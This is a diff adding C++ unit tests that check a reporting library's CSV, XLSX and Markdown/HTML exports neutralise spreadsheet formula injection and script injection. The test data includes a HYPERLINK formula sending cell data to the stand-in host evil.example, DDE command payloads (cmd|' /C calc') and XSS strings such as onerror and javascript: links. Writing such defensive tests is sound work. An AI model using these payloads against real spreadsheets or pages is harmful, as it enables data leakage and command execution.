@@ -190,6 +190,107 @@ TEST(RenderCsv, FieldQuoting) {
   EXPECT_EQ(CsvField("line\nbreak"), "\"line\nbreak\"");
   EXPECT_EQ(CsvField("cr\r"), "\"cr\r\"");
   EXPECT_EQ(CsvField("Sørensen"), "Sørensen");
+  // A spreadsheet that guesses ';' or tab as the separator must not split a cell either.
+  EXPECT_EQ(CsvField("a;b"), "\"a;b\"");
+  EXPECT_EQ(CsvField("a\tb"), "\"a\tb\"");
+  EXPECT_EQ(CsvField("2026-03-31"), "2026-03-31");
+  EXPECT_EQ(CsvField("e-mail"), "e-mail");
+}
+
+// The attack of the review: cells a spreadsheet would run as formulas. Each comes out
+// quoted with a single quote in front (OWASP), and reads back as that text.
+TEST(RenderCsv, FormulaCellsAreNeutralised) {
+  const std::vector<std::string> attacks = {
+      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "\t=1+1",
+      "\r=1+1",
+      "\n=1+1",
+      "  =1+1",
+      "\xEF\xBC\x9D"
+      "1+1",  // full-width '='
+      "-",
+      "=",
+  };
+  for (const std::string& attack : attacks) {
+    EXPECT_TRUE(CsvCellStartsFormula(attack)) << attack;
+    std::string field = CsvField(attack);
+    EXPECT_THAT(field, StartsWith("\"'")) << attack;
+    absl::StatusOr<Table> parsed = ParseCsv(field + "\r\n");
+    ASSERT_THAT(parsed, IsOk()) << attack;
+    ASSERT_EQ(parsed->size(), 1u);
+    EXPECT_THAT((*parsed)[0], ElementsAre("'" + attack)) << attack;
+  }
+  EXPECT_EQ(CsvField("=\"x\""), "\"'=\"\"x\"\"\"") << "quotes still doubled";
+  // Plain numbers stay numbers, and ordinary text stays as it was.
+  for (const std::string& plain : {"-3", "+1.5", "-0.25", "12", "a=b", "x-1", "", "'=1"}) {
+    EXPECT_FALSE(CsvCellStartsFormula(plain)) << plain;
+  }
+  EXPECT_EQ(CsvField("-3"), "-3");
+}
+
+// Every CSV export, with the attack in every text a user can write (names of partnerships
+// and organisations, titles, question texts, action descriptions, the annual section):
+// no cell of any of them starts a formula, and each attack is there as text.
+TEST(RenderCsv, NoExportedCellStartsAFormula) {
+  const std::string attack = "=HYPERLINK(\"http://evil.example\",\"x\")";
+  const std::string plus = "+cmd|' /C calc'!A0";
+  const std::string at = "@SUM(1+1)";
+  const std::string minus = "-1+2";
+
+  v1::AssessmentReport report = testing::SampleAssessmentReport();
+  report.set_partnership_name(attack);
+  report.set_title(plus);
+  report.mutable_steps(0)->set_title(at);
+  report.mutable_steps(0)->mutable_questions(0)->set_text(minus);
+  report.mutable_steps(0)->mutable_questions(0)->mutable_respondent_ratings(0)->set_label(attack);
+
+  v1::PartnershipTrend trend = testing::SamplePartnershipTrend();
+  trend.set_partnership_name(attack);
+  trend.mutable_rounds(0)->set_title(plus);
+  trend.mutable_questions(0)->set_text(at);
+
+  v1::RegionalOverview overview = testing::SampleRegionalOverview();
+  overview.mutable_partnerships(0)->set_partnership_name(attack);
+  overview.set_region_name(plus);
+
+  v1::ActionTracker tracker = testing::SampleActionTracker();
+  for (auto* groups : {tracker.mutable_by_owner(), tracker.mutable_by_step()}) {
+    for (v1::ActionGroup& group : *groups) {
+      group.set_label(at);
+      for (v1::ActionLine& line : *group.mutable_actions()) line.set_description(attack);
+    }
+  }
+
+  v1::AnnualReportSection annual = testing::SampleAnnualReportSection();
+  annual.set_partnership_name(attack);
+  annual.set_markdown(minus);
+  annual.set_attribution(plus);
+
+  const std::vector<std::pair<std::string, std::string>> csvs = {
+      {"assessment", MustRender(report, v1::FORMAT_CSV).content},
+      {"trend", MustRender(trend, v1::FORMAT_CSV).content},
+      {"region", MustRender(overview, v1::FORMAT_CSV).content},
+      {"actions", MustRender(tracker, v1::FORMAT_CSV).content},
+      {"annual", MustRender(annual, v1::FORMAT_CSV).content}};
+  for (const auto& [what, csv] : csvs) {
+    absl::StatusOr<Table> table = ParseCsv(csv);
+    ASSERT_THAT(table, IsOk()) << what;
+    std::set<std::string> cells;
+    for (const auto& row : *table) {
+      for (const std::string& cell : row) {
+        EXPECT_FALSE(CsvCellStartsFormula(cell)) << what << ": " << cell;
+        cells.insert(cell);
+      }
+    }
+    EXPECT_THAT(csv, Not(HasSubstr(",=HYPERLINK"))) << what;
+    EXPECT_THAT(csv, Not(StartsWith("="))) << what;
+    bool found = cells.contains("'" + attack) || cells.contains("'" + plus) ||
+                 cells.contains("'" + at) || cells.contains("'" + minus);
+    EXPECT_TRUE(found) << what << " carries the attack, neutralised:\n" << csv;
+  }
 }
 
 // ---- HTML ----
@@ -291,6 +392,25 @@ TEST(MarkdownToHtml, SmallSubset) {
             "<table>\n<thead><tr><th>a</th><th>b</th></tr></thead>\n<tbody>\n<tr><td>1</td><td>2</"
             "td></tr>\n"
             "</tbody>\n</table>\n");
+}
+
+TEST(MarkdownToHtml, EntitiesFromMarkdownTextAreShownOnce) {
+  EXPECT_EQ(MarkdownToHtml(MarkdownText("<img src=x onerror=alert(1)> & [a](javascript:b)")),
+            "<p>&lt;img src=x onerror=alert(1)&gt; &amp; [a](javascript:b)</p>\n");
+  // A bare '&' or an unknown entity is escaped.
+  EXPECT_EQ(MarkdownToHtml("&copy; &#106;"), "<p>&amp;copy; &amp;#106;</p>\n");
+}
+
+TEST(MarkdownText, EscapesEverythingThatWouldBeMarkup) {
+  EXPECT_EQ(MarkdownText("[x](javascript:alert(1))"), "\\[x\\](javascript:alert(1))");
+  EXPECT_EQ(MarkdownText("![i](y) <b> & *e* _u_ `c` # h | p"),
+            "!\\[i\\](y) &lt;b&gt; &amp; \\*e\\* \\_u\\_ \\`c\\` \\# h \\| p");
+  EXPECT_EQ(MarkdownText("- item"), "\\- item");
+  EXPECT_EQ(MarkdownText("+ item"), "\\+ item");
+  EXPECT_EQ(MarkdownText("12. item"), "12\\. item");
+  EXPECT_EQ(MarkdownText("-3 and 1.5"), "-3 and 1.5");
+  EXPECT_EQ(MarkdownText("2026-03-31"), "2026-03-31");
+  EXPECT_EQ(MarkdownText("two\nlines"), "two lines");
 }
 
 TEST(HtmlEscape, AllFive) {
@@ -509,6 +629,30 @@ TEST_F(Xlsx, AssessmentWorkbook) {
   bool found_completeness = false;
   for (const auto& [ref, cell] : summary) found_completeness |= cell.value == "75%";
   EXPECT_TRUE(found_completeness);
+}
+
+// The XLSX has no formula path: text that looks like a formula is written as a string
+// cell (a shared string), never as a formula (<f>) or a hyperlink.
+TEST_F(Xlsx, FormulaTextStaysAString) {
+  const std::string attack = "=HYPERLINK(\"http://evil.example\",\"x\")";
+  v1::ActionTracker tracker = testing::SampleActionTracker();
+  for (v1::ActionGroup& group : *tracker.mutable_by_owner()) {
+    group.set_label("@SUM(1+1)");
+    for (v1::ActionLine& line : *group.mutable_actions()) line.set_description(attack);
+  }
+  v1::RegionalOverview overview = testing::SampleRegionalOverview();
+  overview.mutable_partnerships(0)->set_partnership_name(attack);
+  for (const std::string& content : {MustRender(tracker, v1::FORMAT_XLSX).content,
+                                     MustRender(overview, v1::FORMAT_XLSX).content}) {
+    std::string path = Save(content);
+    std::string sheets = Member(path, "xl/worksheets/*.xml");
+    ASSERT_THAT(sheets, HasSubstr("<sheetData>"));
+    EXPECT_THAT(sheets, Not(HasSubstr("<f>")));
+    EXPECT_THAT(sheets, Not(HasSubstr("<f ")));
+    EXPECT_THAT(sheets, Not(HasSubstr("<hyperlink")));
+    EXPECT_THAT(Member(path, "xl/sharedStrings.xml"),
+                HasSubstr("=HYPERLINK(\"http://evil.example\",\"x\")"));
+  }
 }
 
 TEST_F(Xlsx, OtherReportsHaveTheirSheets) {
